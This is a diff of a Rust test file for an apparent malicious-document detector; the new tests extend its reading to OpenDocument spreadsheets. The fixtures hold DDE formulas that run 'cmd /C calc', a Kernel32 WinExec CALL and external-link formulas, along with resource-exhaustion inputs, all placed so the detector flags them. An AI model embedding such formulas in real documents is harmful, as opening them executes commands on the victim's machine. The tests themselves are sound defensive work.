@@ -174,21 +174,52 @@ fn a_formula_and_its_declaration_are_one_link() {
     let report = analyze(&fodt("spreadsheet", &format!("{CELL}{links}")));
     assert_eq!(triples(&report), [calc()]);
     assert_eq!(dde(&report)[0].carrier, Carrier::DdeDeclaration);
-    assert_eq!(dde(&report)[0].used_by, ["T!C5"]);
+    assert_eq!(dde(&report)[0].used_by, ["T.C5"]);
     let report = analyze(&fodt("spreadsheet", CELL));
     assert_eq!(triples(&report), [calc()]);
     assert_eq!(dde(&report)[0].carrier, Carrier::Formula);
     assert_eq!(report.verdict(), Verdict::Malicious);
     assert_eq!(report.document().format, Format::Ods);
-    // Sheets are not read whole yet.
-    for bytes in [
-        fodt("spreadsheet", "<table:table/>"),
-        package("spreadsheet", "").build(),
-    ] {
-        let report = analyze(&bytes);
-        assert_eq!(report.verdict(), Verdict::Incomplete);
-        assert_eq!(report.gaps()[0].kind, GapKind::Unsupported);
-    }
+    assert_eq!(dde(&report)[0].location.cell(), Some("T.C5"));
+    assert_eq!(dde(&report)[0].used_by, ["T.C5"]);
+    assert!(report.complete(), "{:?}", report.gaps());
+}
+
+/// `spec/excel.md` §7.5, in the order of its table. The third row is a workbook of Office Open
+/// XML, and stands with those.
+#[test]
+fn the_cases_of_the_specification() {
+    let wanted = || ("cmd".to_owned(), "/C calc".to_owned(), "A0".to_owned());
+    let sheet = |formula: &str| {
+        let formula = support::package::attribute(formula);
+        format!(
+            "<table:table table:name=\"S\"><table:table-row><table:table-cell \
+             table:formula=\"{formula}\"/></table:table-row></table:table>"
+        )
+    };
+    // 1: a formula and its source are one.
+    let formula = sheet("of:=DDE(\"cmd\";\"/C calc\";\"A0\")");
+    let source = "<table:dde-links><table:dde-link><office:dde-source \
+        office:dde-application=\"cmd\" office:dde-topic=\"/C calc\" office:dde-item=\"A0\" \
+        office:automatic-update=\"true\"/></table:dde-link></table:dde-links>";
+    let report = analyze(&fodt("spreadsheet", &format!("{formula}{source}")));
+    assert_eq!(triples(&report), [wanted()]);
+    assert_eq!(only(&report).used_by, ["S.A1"]);
+    assert_eq!(report.verdict(), Verdict::Malicious);
+    assert!(report.complete());
+    // 2: LibreOffice itself.
+    let body = "<text:section text:name=\"s\"><office:dde-source office:dde-application=\"soffice\" \
+        office:dde-topic=\"/home/a/x.odt\" office:dde-item=\"bm\"/></text:section>";
+    let report = analyze(&fodt("text", body));
+    let peer = ["soffice", "/home/a/x.odt", "bm"].map(str::to_owned);
+    let [service, topic, item] = peer;
+    assert_eq!(triples(&report), [(service, topic, item)]);
+    assert_eq!(report.verdict(), Verdict::Clean);
+    // 4: what Excel alone makes a link of.
+    let report = analyze(&fodt("spreadsheet", &sheet("msoxl:=cmd|'/C calc'!A0")));
+    assert_eq!(triples(&report), [wanted()]);
+    assert_eq!(only(&report).carrier, Carrier::Formula);
+    assert_eq!(report.verdict(), Verdict::Malicious);
 }
 
 #[test]
@@ -217,6 +248,222 @@ fn formulas_of_excel_and_functions() {
     );
     let report = cell("of:=SUM([.A1:.B2];'it''s')");
     assert!(report.findings().is_empty());
+}
+
+/// A spreadsheet in one file around `body`.
+fn sheets(body: &str) -> Report {
+    let report = analyze(&fodt("spreadsheet", body));
+    assert!(report.complete(), "{:?}", report.gaps());
+    report
+}
+
+#[test]
+fn every_place_of_a_formula_counts() {
+    let dde = support::package::attribute("DDE(\"cmd\";\"/c calc\";\"A0\")");
+    let calcext =
+        "xmlns:calcext=\"urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0\"";
+    let style = "xmlns:style=\"urn:oasis:names:tc:opendocument:xmlns:style:1.0\"";
+    for (body, carrier, user) in [
+        (
+            format!(
+                "<table:named-expressions><table:named-expression table:name=\"n\" \
+                 table:base-cell-address=\"$S.$A$1\" table:expression=\"{dde}\"/></table:named-expressions>"
+            ),
+            Carrier::Name,
+            "defined name n",
+        ),
+        (
+            format!(
+                "<table:content-validations><table:content-validation table:name=\"v\" \
+                 table:condition=\"of:cell-content()={dde}\"/></table:content-validations>"
+            ),
+            Carrier::Formula,
+            "validation v",
+        ),
+        (
+            format!(
+                "<calcext:conditional-formats {calcext}><calcext:conditional-format \
+                 calcext:target-range-address=\"S.A1:S.A9\"><calcext:condition \
+                 calcext:apply-style-name=\"x\" calcext:value=\"formula-is({dde})\"/>\
+                 </calcext:conditional-format></calcext:conditional-formats>"
+            ),
+            Carrier::Formula,
+            "conditional format S.A1:S.A9",
+        ),
+        (
+            format!("<style:map {style} style:condition=\"cell-content()={dde}\"/>"),
+            Carrier::Formula,
+            "conditional style",
+        ),
+        (
+            format!("<table:table-cell table:formula=\"oooc:={dde}\"/>"),
+            Carrier::Formula,
+            ".A1",
+        ),
+        (
+            format!("<table:table-cell table:formula=\"={dde}+1\"/>"),
+            Carrier::Formula,
+            ".A1",
+        ),
+        (
+            format!("<table:table-cell table:formula=\"of:=IF([.A1];1;{dde})\"/>"),
+            Carrier::Formula,
+            ".A1",
+        ),
+    ] {
+        let report = sheets(&body);
+        assert_eq!(triples(&report), [calc()], "{body}");
+        assert_eq!(only(&report).carrier, carrier);
+        assert_eq!(only(&report).used_by, [user]);
+        assert_eq!(report.verdict(), Verdict::Malicious);
+    }
+}
+
+#[test]
+fn hidden_sheets_are_said() {
+    let body = |display: &str| {
+        format!(
+            "<office:automatic-styles xmlns:style=\"urn:oasis:names:tc:opendocument:xmlns:style:1.0\">\
+             <style:style style:name=\"ta1\" style:family=\"table\"><style:table-properties \
+             table:display=\"{display}\"/></style:style></office:automatic-styles>\
+             <table:table table:name=\"S\" table:style-name=\"ta1\"><table:table-row><table:table-cell \
+             table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)\"/>\
+             </table:table-row></table:table>"
+        )
+    };
+    assert_eq!(techniques(only(&sheets(&body("false")))), ["hidden-sheet"]);
+    assert_eq!(techniques(only(&sheets(&body("true")))), [""; 0]);
+}
+
+#[test]
+fn functions_of_excel_and_of_libreoffice() {
+    let cell = |formula: &str| {
+        let formula = support::package::attribute(formula);
+        sheets(&format!("<table:table-cell table:formula=\"{formula}\"/>"))
+    };
+    for (formula, wanted) in [
+        (
+            "of:=COM.MICROSOFT.WEBSERVICE(\"http://x/\"&[.A1])",
+            (Carrier::Function, Trigger::Update, "http://x/<expr>"),
+        ),
+        (
+            "of:=HYPERLINK(\"file:///C:/a.exe\";\"x\")",
+            (Carrier::Hyperlink, Trigger::Click, "file:///C:/a.exe"),
+        ),
+        (
+            "msoxl:=RTD(\"prog.id\",\"host\",\"x\")",
+            (Carrier::Function, Trigger::Update, "host"),
+        ),
+        (
+            "msoxl:=CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
+            (
+                Carrier::Xlm,
+                Trigger::Update,
+                "CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
+            ),
+        ),
+        (
+            "of:='file:///C:/b.ods'#$Sheet.A1",
+            (
+                Carrier::ExternalWorkbook,
+                Trigger::Update,
+                "file:///C:/b.ods",
+            ),
+        ),
+        (
+            "msoxl:='\\\\h\\s\\[a.xlsx]S'!A1",
+            (
+                Carrier::ExternalWorkbook,
+                Trigger::Update,
+                "\\\\h\\s\\a.xlsx",
+            ),
+        ),
+    ] {
+        assert_eq!(places(&cell(formula)), [wanted], "{formula}");
+    }
+    for formula in [
+        "of:=HYPERLINK(\"#Sheet2.A1\";\"x\")",
+        "of:=HYPERLINK([.A1])",
+        "of:=CALL(1;2)",
+        "of:=SUM([$'My Sheet'.A1:.B2];'it''s')",
+        "of:=IF([.A1]=\"a|b!c\";MAX({1|2});0)",
+        "of:=VLOOKUP(\"x\";['Sheet (2)'.A1:.B9];2)",
+        "of:cell-content-is-in-list(\"a\";\"b\")",
+    ] {
+        let report = cell(formula);
+        assert!(report.findings().is_empty(), "{formula}: {report:#?}");
+        assert_eq!(report.verdict(), Verdict::Clean);
+    }
+    // A placeholder stands for what a cell says.
+    let report = cell("of:=DDE([.A1];\"t\";\"i\")");
+    assert_eq!(techniques(only(&report)), ["unresolved"]);
+}
+
+#[test]
+fn data_sources_of_sheets() {
+    let body = "<table:table table:name=\"S\"><table:table-source xlink:href=\"http://x/a.csv\"/>\
+        <table:table-row><table:table-cell><table:cell-range-source table:name=\"r\" \
+        xlink:href=\"http://x/b.ods\"/></table:table-cell></table:table-row></table:table>\
+        <table:database-ranges><table:database-range table:name=\"d\">\
+        <table:database-source-sql table:database-name=\"Sales\" table:sql-statement=\"SELECT a FROM b\"/>\
+        </table:database-range></table:database-ranges>\
+        <table:source-service table:name=\"x.Service\" table:source-name=\"Cube\" table:object-name=\"o\"/>\
+        <form:form form:datasource=\"http://x/c.odb\" form:command=\"t\"/>\
+        <form:connection-resource xlink:href=\"sdbc:mysql:jdbc:h/db\"/>";
+    assert_eq!(
+        places(&sheets(body)),
+        [
+            (Carrier::ExternalWorkbook, Trigger::Update, "http://x/a.csv"),
+            (Carrier::ExternalWorkbook, Trigger::Update, "http://x/b.ods"),
+            (Carrier::Connection, Trigger::Update, "Sales"),
+            (Carrier::Connection, Trigger::Update, "Cube"),
+            (Carrier::Connection, Trigger::Update, "http://x/c.odb"),
+            (Carrier::Connection, Trigger::Update, "sdbc:mysql:jdbc:h/db"),
+        ]
+    );
+    // Registered on the computer and in this document: no alarm.
+    let body = "<table:database-source-sql table:database-name=\"Sales\" table:sql-statement=\"SELECT a\"/>\
+        <table:database-source-table table:database-name=\"Sales\"/>\
+        <form:form form:datasource=\"Sales\"/>\
+        <script:event-listener script:event-name=\"on-click\" script:macro-name=\"Standard.M.Main\"/>";
+    let report = sheets(body);
+    assert_eq!(report.verdict(), Verdict::Clean, "{report:#?}");
+}
+
+#[test]
+fn storms_of_cells_are_counted_not_walked() {
+    // Repeated a billion times.
+    let many = "<table:table table:name=\"S\"><table:table-row table:number-rows-repeated=\"1000000000\">\
+        <table:table-cell table:number-columns-repeated=\"1000000000\"/></table:table-row>\
+        <table:table-row><table:table-cell table:number-columns-repeated=\"18446744073709551615\"/>\
+        <table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)\"/>\
+        </table:table-row></table:table>";
+    let report = sheets(many);
+    assert_eq!(triples(&report), [calc()]);
+    assert!(only(&report).used_by[0].ends_with("1000000001"));
+    // Tables in tables, unclosed cells, names without end.
+    let deep = "<table:table table:name=\"S\"><table:table-row><table:table-cell>".repeat(300);
+    let shut = "</table:table-cell></table:table-row></table:table>".repeat(300);
+    let cell = "<table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)\"/>";
+    assert_eq!(triples(&sheets(&format!("{deep}{cell}{shut}"))), [calc()]);
+    let mut body = String::new();
+    for at in 0..20_000 {
+        write!(
+            body,
+            "<table:named-expression table:name=\"n{at}\" table:expression=\"DDE(&quot;svc&quot;;&quot;t&quot;;&quot;{at}&quot;)\"/>\
+             <table:table-cell table:formula=\"of:=HYPERLINK(&quot;http://x/{at}&quot;)\"/>"
+        )
+        .unwrap();
+    }
+    let report = sheets(&format!("{body}{cell}"));
+    assert_eq!(report.verdict(), Verdict::Malicious);
+    // References in one formula: each is found, none is copied with the whole.
+    let mut formula = "of:=".to_owned();
+    for at in 0..20_000 {
+        write!(formula, "+['file:///C:/{at}.ods'#$S.A1]").unwrap();
+    }
+    let report = sheets(&format!("<table:table-cell table:formula=\"{formula}\"/>"));
+    assert!(!report.omitted().is_empty() || report.findings().len() == 20_000);
 }
 
 #[test]
@@ -445,22 +692,21 @@ fn many_links_cost_what_they_are() {
     assert_eq!(users, Some(8));
 }
 
-/// What a spreadsheet of its own is a gap for, one in a text is, too.
+/// An object is read like the document it stands in, whatever kind it is.
 #[test]
-fn a_spreadsheet_in_a_text_is_a_gap() {
-    let object = |kind: &str| {
-        let body = content("").replace("office:text", &format!("office:{kind}"));
+fn a_spreadsheet_in_a_text_is_read() {
+    let cell = "<table:table table:name=\"S\"><table:table-row><table:table-cell table:formula=\
+        \"of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)\"/></table:table-row></table:table>";
+    for kind in ["spreadsheet", "presentation", "chart", "drawing", "text"] {
+        let body = content(cell).replace("office:text", &format!("office:{kind}"));
         let report = analyze(
             &package("text", "")
                 .part("Object 1/content.xml", body)
                 .build(),
         );
-        report.gaps().first().map(|gap| gap.kind)
-    };
-    assert_eq!(object("spreadsheet"), Some(GapKind::Unsupported));
-    assert_eq!(object("presentation"), Some(GapKind::Unsupported));
-    assert_eq!(object("chart"), None);
-    assert_eq!(object("text"), None);
+        assert_eq!(triples(&report), [calc()], "{kind}");
+        assert!(report.complete(), "{kind}: {:?}", report.gaps());
+    }
 }
 
 /// LibreOffice keeps pictures of objects in the compressed form of Windows.
